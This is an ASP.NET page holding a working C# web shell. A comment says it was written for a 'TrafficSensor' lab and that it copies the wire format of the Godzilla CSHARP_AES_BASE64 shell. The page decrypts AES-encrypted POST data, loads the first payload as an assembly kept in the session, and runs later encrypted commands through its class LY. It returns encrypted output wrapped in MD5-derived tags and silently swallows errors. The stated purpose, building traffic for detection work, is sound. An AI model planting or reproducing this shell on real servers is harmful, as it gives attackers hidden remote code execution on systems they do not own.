<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %><%@ Import Namespace="System.Security.Cryptography" %><script runat="server">
// TrafficSensor lab: a Godzilla CSHARP_AES_BASE64 shell written for the lab (the tool's wire format,
// not its code). The first call's AES-CBC (iv = key) body is an assembly kept in the session; later
// calls hand the context, an output stream and the decrypted call to its class LY.
static readonly byte[] K = System.Text.Encoding.ASCII.GetBytes("3c6e0b8a9c15224a");
const string P = "@@PASS@@";
static byte[] Crypt(byte[] b, bool enc) { using (var a = new RijndaelManaged()) { var t = enc ? a.CreateEncryptor(K, K) : a.CreateDecryptor(K, K); return t.TransformFinalBlock(b, 0, b.Length); } }
protected void Page_Load(object s, EventArgs e)
{
    try
    {
        var call = Crypt(Convert.FromBase64String(Request.Form[P]), false);
        var loaded = Session["payload"] as Assembly;
        if (loaded == null) { Session["payload"] = Assembly.Load(call); return; }
        var sink = new System.IO.MemoryStream();
        var ly = loaded.CreateInstance("LY");
        ly.Equals(Context); ly.Equals(sink); ly.Equals(call); ly.ToString();
        var tag = BitConverter.ToString(MD5.Create().ComputeHash(System.Text.Encoding.ASCII.GetBytes(P + "3c6e0b8a9c15224a"))).Replace("-", "");
        Response.Write(tag.Substring(0, 16) + Convert.ToBase64String(Crypt(sink.ToArray(), true)) + tag.Substring(16));
    }
    catch (Exception) { }
}
</script>